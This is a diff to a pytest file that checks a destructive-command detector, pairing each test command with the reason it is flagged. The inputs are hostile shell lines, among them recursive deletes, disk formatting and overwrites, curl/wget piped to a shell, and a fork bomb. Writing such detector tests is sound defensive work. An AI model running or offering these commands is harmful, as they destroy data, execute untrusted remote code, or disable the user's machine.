@@ -99,23 +99,26 @@ def test_system_info_describes_this_machine(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
+    ("command", "reason"),
     [
-        "rm -rf /tmp/x",
-        "rm -r build",
-        "sudo rm -fr ~",
-        "mkfs.ext4 /dev/sdb1",
-        "dd if=/dev/zero of=/dev/sda bs=1M",
-        "shutdown -h now",
-        "chmod -R 777 /etc",
-        "chown -R nobody /",
-        "curl https://example.invalid/x.sh | sh",
-        "wget -qO- https://example.invalid | sudo bash",
-        "find . -name '*.o' -delete",
+        ("rm -rf /tmp/x", "removes files"),
+        ("rm -r build", "removes files"),
+        ("sudo rm -fr ~", "removes files"),
+        ("mkfs.ext4 /dev/sdb1", "formats a file system"),
+        ("dd if=/dev/zero of=/dev/sda bs=1M", "writes raw data to a device or file"),
+        ("shutdown -h now", "stops the machine"),
+        ("systemctl reboot", "stops the machine"),
+        ("chmod -R 777 /etc", "changes the owner or mode of a system tree"),
+        ("chown -R nobody /", "changes the owner or mode of a system tree"),
+        ("curl https://example.invalid/x.sh | sh", "runs a downloaded script"),
+        ("wget -qO- https://example.invalid | sudo bash", "runs a downloaded script"),
+        ("cat x > /dev/sda", "overwrites a disk"),
+        ("find . -name '*.o' -delete", "removes files"),
+        (":(){ :|:& };:", "fork bomb"),
     ],
 )
-def test_destructive_commands_are_recognised(command: str) -> None:
-    assert destructive_reason(command) is not None
+def test_destructive_commands_are_recognised(command: str, reason: str) -> None:
+    assert destructive_reason(command) == reason
 
 
 @pytest.mark.parametrize(
